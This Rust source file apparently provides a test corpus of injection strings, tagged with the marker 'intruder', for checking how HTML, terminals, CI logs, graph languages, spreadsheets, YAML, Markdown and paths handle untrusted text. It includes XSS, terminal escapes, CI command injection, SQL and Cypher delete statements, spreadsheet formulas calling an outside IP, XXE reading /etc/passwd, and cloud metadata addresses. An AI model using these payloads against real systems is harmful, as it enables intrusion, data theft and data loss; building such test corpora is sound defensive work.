//! Texts that break out of what they are written into, where somebody pastes them.
//!
//! Each carries [`MARK`], so that a checker sees where it went.

/// In every text.
pub const MARK: &str = "intruder";

/// By a name for messages; `@` stands for the mark, `$@` and the like included.
const KINDS: &[(&str, &str)] = &[
    // Pages and pictures
    ("element", "<script>@()</script>"),
    ("element-unclosed", "<svg/onload=@()"),
    ("attribute", "\"><iframe src=@>"),
    ("attribute-single", "'/onfocus='@()'/autofocus='"),
    ("attribute-bare", "x onpointerover=@() "),
    ("comment-end", "--!><b id=@>"),
    ("entities", "&#60;@&#62;&lt;@&gt;&amp;#x3c;"),
    ("script-end", "</SCRIPT ><script>@()//"),
    ("style-end", "</style><b style=\"x:@\">"),
    ("title-end", "</title></text></svg><@/>"),
    ("foreign-object", "<foreignObject><body onload='@()'/></foreignObject>"),
    ("template-literal", "`+@()+`${@()}"),
    ("string-end", "\\\"+@()+\\'"),
    ("line-separators", "a\u{2028}@()\u{2029}b"),
    ("address-script", "javascript:@()"),
    ("address-data", "data:text/html;base64,@"),
    ("prototype", "__proto__.@"),
    ("constructor", "constructor[@]"),
    // Terminals
    ("erase", "\u{1b}[2J\u{1b}[1;1H@"),
    ("title", "\u{1b}]2;@\u{1b}\\"),
    ("clipboard", "\u{1b}]52;c;@\u{7}"),
    ("hyperlink", "\u{1b}]8;;https://203.0.113.5/@\u{7}here\u{1b}]8;;\u{7}"),
    ("device-control", "\u{1b}P+q@\u{1b}\\"),
    ("c1-controls", "\u{9b}31m\u{9d}0;@\u{9c}\u{85}"),
    ("carriage-return", "denied\rallowed @"),
    ("backspaces", "denied\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}@"),
    ("delete", "@\u{7f}\u{7f}"),
    ("bell", "\u{7}@"),
    ("form-feed", "\u{c}@\u{b}"),
    ("right-to-left", "\u{202e}@\u{202c}"),
    ("isolates", "\u{2066}@\u{2069}\u{2067}"),
    ("marks", "\u{200e}@\u{200f}"),
    ("zero-width", "ad\u{200b}min@\u{200d}\u{feff}"),
    ("tags", "a\u{e0061}@\u{e007f}"),
    ("look-alike", "d\u{435}fault-@"),
    // Logs of CI jobs
    ("log-line", "x\n2026-06-01T12:00:00Z INFO @ proof holds"),
    ("annotation", "x\n::error file=README.md,line=1::@"),
    ("annotation-first", "::warning title=@::@"),
    ("stop-commands", "\n::stop-commands::@"),
    ("set-output", "\r\n::set-output name=@::1"),
    ("old-command", "##[add-matcher]@.json"),
    ("azure", "\n##vso[task.prependpath]/tmp/@"),
    ("teamcity", "\n##teamcity[buildStatus text='@']"),
    ("escapes", "%0A%3A%3Aerror%3A%3A@%25"),
    // Graphs
    ("dot-string", "\"];@[shape=box];\"x"),
    ("dot-backslash", "\\\"];@;//"),
    ("dot-markup", "<<B>@</B>>"),
    ("dot-escapes", "\\G\\N\\T@\\l"),
    ("dot-keyword", "digraph {@}"),
    ("mermaid-string", "\"]\n@-->b[\""),
    ("mermaid-click", "x\nclick x \"javascript:@()\""),
    ("mermaid-directive", "%%{init:{\"securityLevel\":\"loose\",\"@\":1}}%%"),
    ("mermaid-end", "end\nsubgraph @"),
    ("mermaid-entity", "#quot;#59;@"),
    ("d2-block", "a: |md <b>@</b> |"),
    ("d2-substitution", "${@}"),
    ("cypher-string", "'})\nMATCH (@) DETACH DELETE @ //"),
    ("cypher-backslash", "\\'}) DELETE @ //"),
    ("cypher-unicode", "\\u0027}) DELETE @ //"),
    ("cypher-backtick", "`) DELETE @ //`"),
    // Tables
    ("formula", "=WEBSERVICE(\"http://203.0.113.5/@\")"),
    ("formula-plus", "+1+cmd|'/C @'!A0"),
    ("formula-minus", "-1+@"),
    ("formula-at", "@SUM(1)"),
    ("formula-tab", "\t=@"),
    ("formula-return", "\r=@"),
    ("formula-blank", "  =@"),
    ("formula-wide", "\u{ff1d}@"),
    ("formula-wide-at", "\u{ff20}@"),
    ("cell-end", "a\",\"=@\",\"b"),
    ("row-end", "a\r\n=@"),
    // Manifests
    (
        "document",
        "x\n---\napiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata:\n  name: @\nspec: {podSelector: {}}\n---\n",
    ),
    ("document-end", "x\n...\n%YAML 1.1\n---\n@: 1"),
    ("key", "x\n@: true"),
    ("comment", "x #@"),
    ("comment-line", "x\n# @"),
    ("mapping", "{@: [@]}"),
    ("colon", "@: @"),
    ("anchor", "&@ *@"),
    ("merge", "<<: *@"),
    ("tag", "!!binary @"),
    ("quotes", "'@'\"@\"'"),
    ("block", "|-\n  @\n@"),
    ("folded", ">+\n\n @"),
    ("next-line", "a\u{85}@: 1"),
    ("word-no", "no"),
    ("word-null", "~"),
    ("word-octal", "0o17"),
    ("word-float", ".inf"),
    ("word-time", "12:30:45"),
    ("word-merge", "<<"),
    // Templates and shells
    ("helm", "{{ .Values.@ }}{{- fail \"@\" }}"),
    ("variable", "$(@)${@}"),
    ("shell", "$(touch @);`@`;'\"|@&"),
    ("format", "%s%n{}{0}{:?}@"),
    // Markdown and chat
    ("link", "[@](javascript:@)"),
    ("image", "![@](http://203.0.113.5/@.png)"),
    ("reference", "[@]: http://203.0.113.5/"),
    ("autolink", "https://203.0.113.5/@ <mailto:@@a.example>"),
    ("row", "a | b |\n| --- | --- |\n| @"),
    ("html", "<details open><summary>@"),
    ("fence", "```\n@\n```"),
    ("ticks", "`` @ ` @"),
    ("heading", "\n# @\n"),
    ("mention", "@@everyone @@org/team #1 GH-1"),
    ("slack", "<!channel> <http://203.0.113.5/@|x>"),
    // Other formats
    ("cdata", "]]><@/><![CDATA["),
    ("entity", "&@;<!DOCTYPE x [<!ENTITY @ SYSTEM \"file:///etc/passwd\">]>"),
    ("instruction", "<?@ x?>"),
    ("no-xml", "a\u{1}\u{fffe}\u{ffff}@"),
    ("attachment", "[[ATTACHMENT|/tmp/@]]"),
    ("property", "x]]\n[[PROPERTY|@=1]]"),
    ("exposition", "x\",@=\"1\"} 1\n@{a=\""),
    ("exposition-comment", "\n# TYPE @ counter\n@ 1\n# EOF"),
    ("sarif", "{0} [@](1) [@](https://a.example)"),
    ("logql", "\"} |~ `@`"),
    ("ldap", "*)(|(uid=@"),
    ("sql", "'; DROP TABLE @;--"),
    // Paths and addresses
    ("climb", "../../../../tmp/@"),
    ("climb-windows", "..\\..\\@"),
    ("absolute", "/tmp/@"),
    ("nul", "a\u{0}@"),
    ("metadata-address", "http://169.254.169.254/@"),
    ("file-address", "file:///proc/self/environ#@"),
    ("user-in-address", "https://kubernetes.io@@203.0.113.5/"),
    // Texts as such
    ("empty", ""),
    ("blanks", "   @   "),
    ("combining", "e\u{301}\u{335}@"),
    ("emoji", "\u{1f4a5}@\u{1f468}"),
    ("hebrew", "\u{5e9}@"),
    ("unassigned", "\u{e0fff}@"),
    ("escaped-surrogate", "\\ud800\\udc00@"),
    ("long", "A"),
];

/// How long the long one is.
const LONG: usize = 70_000;

/// All of them by their names.
pub fn all() -> Vec<(&'static str, String)> {
    let text = |(kind, text): &(&'static str, &'static str)| {
        let text = match *kind {
            "long" => format!("{MARK}{}", "A".repeat(LONG)),
            "formula-at" => format!("@SUM({MARK})"),
            _ => text.replace("@@", "\u{0}at").replace('@', MARK).replace("\u{0}at", "@"),
        };
        (*kind, text)
    };
    KINDS.iter().map(text).collect()
}
